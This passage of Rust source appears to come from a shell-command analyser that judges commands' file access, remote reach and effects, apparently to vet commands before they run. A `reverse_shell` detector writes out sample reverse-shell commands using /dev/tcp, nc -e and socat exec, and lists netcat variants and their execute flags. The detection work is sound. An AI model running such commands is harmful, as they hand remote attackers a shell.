        let cwd = self.cwd.clone();
        // What earlier `export`s gave this command (not what it exports itself: `export A=1`
        // prints nothing).
        let inherited = self.exported.clone();
        match program.as_str() {
            "cd" | "pushd" => {
                let target = parsed.positionals.first().map_or("~", String::as_str);
                if target != "-" {
                    self.cwd = Some(path::join(self.cwd.as_deref(), target));
                }
            }
            "export" | "setenv" => {
                // `export NAME=value`, `export NAME` (assigned before), csh's `setenv NAME value`.
                let pairs: Vec<(String, String)> = if program == "setenv" {
                    match parsed.positionals.as_slice() {
                        [name, value, ..] => vec![(name.clone(), value.clone())],
                        _ => Vec::new(),
                    }
                } else {
                    parsed
                        .positionals
                        .iter()
                        .filter_map(|a| match a.split_once('=') {
                            Some((name, value)) => Some((name.to_owned(), value.to_owned())),
                            None => self.vars.get(a.as_str()).map(|v| (a.clone(), v.clone())),
                        })
                        .collect()
                };
                for (name, value) in pairs {
                    self.vars.insert(name.clone(), value.clone());
                    self.exported.retain(|(n, _)| *n != name);
                    self.exported.push((name, value));
                }
            }
            "alias" => {
                for a in &parsed.positionals {
                    if let Some((name, value)) = a.split_once('=') {
                        self.aliases.insert(name.to_owned(), value.to_owned());
                    }
                }
            }
            _ => {}
        }
        self.note_written(&program, &parsed, &files, extras);
        if reverse_shell(&program, &parsed, &args, &files) {
            self.construct(Construct::ReverseShell);
        }
        if evaluates_names(&program, &parsed) {
            // `let 'x=a[$(cmd)]'`, `printf -v 'a[$(cmd)]'`, `test -v`, `read v <<< '...'`: these
            // builtins evaluate subscripts and arithmetic, so quoted `$(...)` in them runs.
            let texts: Vec<String> = args.iter().cloned().chain(extras.stdin.clone()).collect();
            for text in texts {
                if text.contains("$(") || text.contains('`') {
                    self.assign("_", &text, 0, via);
                }
            }
        }
        let runs_stdin = std::mem::take(&mut self.stdin_runs);
        let mutates = parsed.chain.iter().any(|s| s.mutates);
        let mut env = inherited;
        env.append(&mut std::mem::take(&mut self.env));
        env.extend(extras.env.iter().cloned());
        let mut reaches = super::place::reaches(&program, &parsed, &env, via, &self.outer_reaches);
        let mut effect = super::place::effect(&program, &parsed, extras.stdin.as_deref());
        if let Some(task) = super::task::read(&program, first, &args, &parsed) {
            for place in task.places {
                if !reaches.contains(&place) {
                    reaches.push(place);
                }
            }
            effect = effect.max(task.effect);
        }
        if effect.is_none() {
            effect = super::task::http_effect(&program, &parsed);
        }
        let checks_config = matches!(
            program.as_str(),
            "nginx" | "apachectl" | "apache2ctl" | "httpd" | "sshd" | "haproxy"
        ) && parsed.flags.iter().any(|f| matches!(f.name.as_str(), "t" | "T" | "c"))
            && parsed
                .flags
                .iter()
                .all(|f| matches!(f.name.as_str(), "t" | "T" | "c" | "q" | "f" | "V"));
        if effect.is_none()
            && parsed.positionals.is_empty()
            && !parsed.flags.is_empty()
            && (checks_config
                || parsed
                    .flags
                    .iter()
                    .all(|f| matches!(f.name.as_str(), "version" | "V" | "help" | "h")))
        {
            // (`nginx -t`, `apachectl -t`, `haproxy -c -f cfg`: checking a configuration reads.)
            // `nginx -V`, `python3 --version`: asking a program what it is reads.
            effect = Some(super::model::Effect::Read);
        }
        // An interpreter running a script file (`php artisan queue:failed`) adds nothing of its
        // own when the script has been judged as a command already.
        let script_judged = parsed
            .chain
            .iter()
            .rev()
            .find_map(|s| s.code.as_ref())
            .is_some_and(|c| c.script)
            && parsed.positionals.first().is_some_and(|script| {
                // Only the frameworks' entry scripts, judged as the part just recorded (`bash ls`
                // runs a file named `ls`, not the `ls` elsewhere in the line).
                let name = program_name(script);
                matches!(name, "artisan" | "manage.py" | "console" | "rails" | "rake")
                    && self.out.commands.last().is_some_and(|c| c.program == name)
            });
        if effect.is_none() && super::task::remote(via) && !script_judged && !super::model::verbs().inspects(&program) {
            // Run on another machine, and not read as a read: what cannot be read may change it.
            effect = Some(super::model::Effect::Mutate);
        }
        let command = SimpleCommand {
            program: program.clone(),
            args,
            flags: parsed.flags,
            positionals: parsed.positionals,
            files,
            cwd,
            via: via.to_vec(),
            env,
            runs_stdin,
            mutates,
            reaches,
            effect,
            input: extras.stdin.clone(),
        };
        if self.seen.insert(command.key()) {
            self.out.commands.push(command);
        }
        vec![program]
    }

    /// Remembers files this command writes with known contents (`printf '...' > f`, `cat > f
    /// <<EOF`) or downloads (`curl -o f URL`), so that running them later is judged by content.
    fn note_written(&mut self, program: &str, parsed: &ParsedArgs, files: &[(Access, String)], extras: &Extras) {
        let written: Vec<&String> = files
            .iter()
            .filter(|(a, _)| *a == Access::Write)
            .map(|(_, f)| f)
            .collect();
        if written.is_empty() {
            return;
        }
        let content = match program {
            "echo" => Some(Written::Text(parsed.positionals.join(" "))),
            "printf" => Some(Written::Text(
                parsed.positionals.join(" ").replace("\\n", "\n").replace("\\t", "\t"),
            )),
            "cat" | "tee" | "dd" | "sponge" => extras.stdin.clone().map(Written::Text),
            "curl" | "wget" | "aria2c" | "fetch" | "http" | "https" | "xh" => {
                Some(Written::Download(program.to_owned()))
            }
            _ => None,
        };
        if let Some(content) = content {
            for f in written {
                let key = path::join(self.cwd.as_deref(), f);
                self.written.insert(key, content.clone());
            }
        }
    }
}

/// Whether a word is a shell assignment (`NAME=value`).
fn is_assignment(word: &str) -> bool {
    word.split_once('=').is_some_and(|(name, _)| {
        !name.is_empty()
            && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
            && !name.as_bytes()[0].is_ascii_digit()
    })
}

/// Builtins that evaluate variable names, subscripts or arithmetic in their arguments.
fn evaluates_names(program: &str, parsed: &ParsedArgs) -> bool {
    match program {
        "let" | "read" | "test" | "[" | "[[" | "declare" | "typeset" | "local" | "export" | "readonly" | "unset"
        | "mapfile" | "readarray" | "eval" | "exit" | "return" | "shift" | "kill" => true,
        "printf" => parsed.flags.iter().any(|f| f.name == "v"),
        _ => false,
    }
}

/// A shell or interpreter whose streams go to a network socket, or a network tool told to run
/// a program on its connection: `bash -i >& /dev/tcp/h/p 0>&1`, `nc -e /bin/sh h p`,
/// `socat tcp:h:p exec:sh`.
fn reverse_shell(program: &str, parsed: &ParsedArgs, args: &[String], files: &[(Access, String)]) -> bool {
    let socket_stream = files
        .iter()
        .any(|(_, f)| f.starts_with("/dev/tcp/") || f.starts_with("/dev/udp/"));
    let runs_code = parsed.chain.iter().any(|s| s.code.is_some()) || matches!(program, "exec" | "sh" | "bash");
    if socket_stream && runs_code {
        return true;
    }
    match program {
        "nc" | "ncat" | "netcat" | "nc.openbsd" | "nc.traditional" | "pwncat" => parsed
            .flags
            .iter()
            .any(|f| matches!(f.name.as_str(), "exec" | "sh-exec" | "lua-exec" | "e" | "c")),
        "socat" => {
            let text = args.join(" ").to_ascii_lowercase();
            (text.contains("exec:") || text.contains("system:"))
                && ["tcp", "udp", "ssl", "openssl", "sctp"]
                    .iter()
                    .any(|n| text.contains(n))
        }
        _ => false,
    }
}

/// The role of option `name` in the descriptions in force.
fn option_role(parsed: &ParsedArgs, name: &str) -> Option<FileRole> {
    parsed
        .chain
        .iter()
        .rev()
        .find_map(|s| s.option_files.get(name).copied())
}

/// `-v SRC:DST` / `--volume SRC:DST` / `--mount type=bind,source=S,target=T` of a container run.
fn mounts(args: &[String]) -> Vec<(String, String)> {
    let mut out = Vec::new();
    let mut i = 0;
    while i < args.len() {
        let a = args[i].as_str();
        let value = if matches!(a, "-v" | "--volume" | "--mount") {
            i += 1;
            args.get(i).map(String::as_str)
        } else {
            a.strip_prefix("--volume=")
                .or_else(|| a.strip_prefix("--mount="))
                .or_else(|| a.strip_prefix("-v"))
                .filter(|v| !v.is_empty())
        };
        if let Some(v) = value {
            if v.contains("target=") || v.contains("dst=") || v.contains("destination=") {
                let field = |keys: &[&str]| {
                    v.split(',').find_map(|kv| {
                        kv.split_once('=')
                            .filter(|(k, _)| keys.contains(k))
                            .map(|(_, x)| x.to_owned())
                    })
                };
                if let (Some(src), Some(dst)) = (field(&["source", "src"]), field(&["target", "dst", "destination"])) {
                    out.push((src, dst));
                }
            } else {
                let mut parts = v.split(':');
                if let (Some(src), Some(dst)) = (parts.next(), parts.next())
                    && !src.is_empty()
                    && dst.starts_with('/')
                {
                    out.push((src.to_owned(), dst.to_owned()));
                }
            }
        }
        i += 1;
    }
    out
}

/// A word with every container path under a host mount replaced by the host path it is
/// mounted from: `/host/etc` → `/etc`, and inside script text too (`sh -c 'rm -rf /h'`).
fn host_path(word: &str, mounts: &[(String, String)]) -> String {
    let mut out = word.to_owned();
    for (src, dst) in mounts {
        let dst = dst.trim_end_matches('/');
        let src = src.trim_end_matches('/');
        if dst.is_empty() {
            continue;
        }
        let mut result = String::with_capacity(out.len());
        let mut rest = out.as_str();
        while let Some(at) = rest.find(dst) {
            let before = rest[..at].chars().last();
            let after = rest[at + dst.len()..].chars().next();
            let starts = before.is_none_or(|c| c.is_whitespace() || matches!(c, '\'' | '"' | '=' | ':'));
            let ends = after.is_none_or(|c| c == '/' || c.is_whitespace() || matches!(c, '\'' | '"' | ';'));
            result.push_str(&rest[..at]);
            if starts && ends {
                result.push_str(if src.is_empty() { "/" } else { src });
            } else {
                result.push_str(dst);
            }
            rest = &rest[at + dst.len()..];
        }
        result.push_str(rest);
        out = result.replace("//", "/");
    }
    out
}

/// Quotes a word for re-reading as shell text.
pub(super) fn quote(word: &str) -> String {
    if !word.is_empty()
        && word
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"-_./=:@%+,~".contains(&b))
    {
        word.to_owned()
    } else {
        format!("'{}'", word.replace('\'', r"'\''"))
    }
}

/// Files a command reads or writes, as the model describes its operands and options. Branch
/// names, patterns and messages are not files.
fn file_arguments(program: &str, args: &[String], parsed: &ParsedArgs) -> Vec<(Access, String)> {
    let mut files = Vec::new();
    let spec: Option<&Spec> = parsed.spec();
    for f in &parsed.flags {
        let Some(value) = &f.value else { continue };
        match option_role(parsed, &f.name) {
            Some(FileRole::Read) => files.push((Access::Read, value.clone())),
            Some(FileRole::Write) => files.push((Access::Write, value.clone())),
            Some(FileRole::DirWrite) => files.push((Access::Write, format!("{}/*", value.trim_end_matches('/')))),
            Some(FileRole::Use) => {}
            Some(FileRole::UseConfig) => {
                let config = [
                    ".properties",
                    ".conf",
                    ".cfg",
                    ".ini",
                    ".yaml",
                    ".yml",
                    ".json",
                    ".toml",
                ]
                .iter()
                .any(|ext| value.to_ascii_lowercase().ends_with(ext));
                if !config {
                    files.push((Access::Read, value.clone()));
                }
            }
            None if spec.is_none()
                && matches!(f.name.as_str(), "output" | "output-document" | "o" | "out" | "log-file") =>
            {
                files.push((Access::Write, value.clone()));
            }
            None => {
                if let Some(file) = data_file(value) {
                    files.push((Access::Read, file.to_owned()));
                }
            }
        }
    }
    let operands: &[String] = &parsed.positionals[parsed.subcommand_words.min(parsed.positionals.len())..];
    if program == "dd" {
        for p in operands {
            if let Some(f) = p.strip_prefix("of=") {
                files.push((Access::Write, f.to_owned()));
            } else if let Some(f) = p.strip_prefix("if=") {
                files.push((Access::Read, f.to_owned()));
            }
        }
        return files;
    }
    if program == "git" {
        git_files(args, parsed, operands, &mut files);
        return files;
    }
    let Some(spec) = spec else {
        files.extend(
            operands
                .iter()
                .filter(|p| looks_like_path(p) || data_file(p).is_some())
                .map(|p| (Access::Read, data_file(p).unwrap_or(p).to_owned())),
        );
        return files;
    };
    if let Some(p) = operands.iter().find_map(|p| data_file(p)) {
        files.push((Access::Read, p.to_owned()));
    }
    let pattern_given = parsed.flags.iter().any(|f| {
        matches!(
            f.name.as_str(),
            "e" | "regexp" | "f" | "file" | "expression" | "from-file"
        )
    });
    let skip = usize::from(spec.pattern_first && !pattern_given);
    let operands = &operands[skip.min(operands.len())..];
    let in_place = spec.in_place_writes
        && parsed
            .flags
            .iter()
            .any(|f| matches!(f.name.as_str(), "in-place" | "inplace" | "i"));
    let target_dir = parsed.flags.iter().any(|f| f.name == "target-directory");
    let count = operands.len();
    for (i, p) in operands.iter().enumerate() {
        let last = i + 1 == count && i > 0 && !target_dir;
        let access: &[Access] = match spec.operands {
            Operands::Read if in_place => &[Access::Write],
            Operands::Read => &[Access::Read],
            Operands::Write => &[Access::Write],
            Operands::Copy if last => &[Access::Write],
            Operands::Copy => &[Access::Read],
            Operands::Move if last => &[Access::Write],
            Operands::Move => &[Access::Read, Access::Write],
            Operands::ArchiveFirst if i == 0 => &[Access::Write],
            Operands::ArchiveFirst => &[Access::Read],
            Operands::Archive => {
                tar_files(parsed, p, &mut files);
                &[]
            }
            Operands::Paths if looks_like_path(p) => &[Access::Read],
            Operands::Paths | Operands::Text | Operands::Metadata | Operands::Data | Operands::Checkout => &[],
        };
        for a in access {
            files.push((*a, p.clone()));
        }
    }
    if spec.operands == Operands::Archive {
        tar_archive(parsed, &mut files);
    }
    files
}

/// `tar`: in create mode operands are read, in extract mode the directory (`-C`, else the
/// working directory) is written.
fn tar_files(parsed: &ParsedArgs, operand: &str, files: &mut Vec<(Access, String)>) {
    let extract = parsed
        .flags
        .iter()
        .any(|f| matches!(f.name.as_str(), "extract" | "get"));
    if !extract {
        files.push((Access::Read, operand.to_owned()));
    }
}

fn tar_archive(parsed: &ParsedArgs, files: &mut Vec<(Access, String)>) {
    let has = |n: &str| parsed.flags.iter().any(|f| f.name == n);
    let extract = has("extract") || has("get");
    let create = has("create") || has("append") || has("update");
    let value = |n: &str| parsed.flags.iter().find(|f| f.name == n).and_then(|f| f.value.clone());
    if let Some(archive) = value("file").filter(|a| a != "-") {
        files.push((if create { Access::Write } else { Access::Read }, archive));
    }
    if extract {
        let dir = value("directory").unwrap_or_else(|| ".".to_owned());
        files.push((Access::Write, format!("{}/*", dir.trim_end_matches('/'))));
    }
}

/// Files of a git subcommand: paths it reads, writes or restores.
fn git_files(args: &[String], parsed: &ParsedArgs, operands: &[String], files: &mut Vec<(Access, String)>) {
    let sub = parsed.positionals.first().map_or("", String::as_str);
    let cached = parsed.flags.iter().any(|f| f.name == "cached");
    match sub {
        "rm" | "mv" if !cached => files.extend(operands.iter().map(|p| (Access::Write, p.clone()))),
        "restore" => files.extend(operands.iter().map(|p| (Access::Write, p.clone()))),
        "checkout" => {
            // `git checkout REF -- PATH` overwrites PATH with REF's copy.
            if let Some(at) = args.iter().position(|a| a == "--") {
                files.extend(args[at + 1..].iter().map(|p| (Access::Write, p.clone())));
            }
        }
        "show" | "cat-file" => files.extend(
            operands
                .iter()
                .filter_map(|p| p.split_once(':').map(|(_, f)| f))
                .filter(|f| !f.is_empty())
                .map(|f| (Access::Read, f.to_owned())),
        ),
        "add" | "blame" | "diff" | "apply" | "am" | "hash-object" => {
            files.extend(operands.iter().map(|p| (Access::Read, p.clone())));
        }
        "grep" => {
            // `git grep PATTERN -- PATHS`, or with `--no-index` over any file.
            let skip = usize::from(
                !parsed
                    .flags
                    .iter()
                    .any(|f| matches!(f.name.as_str(), "e" | "regexp" | "f" | "file")),
            );
            files.extend(operands.iter().skip(skip).map(|p| (Access::Read, p.clone())));
        }
        _ => {}
    }
    // Options with files (`git commit -F msg`, `git config -f file`) come from the model.
    let _ = args;
}
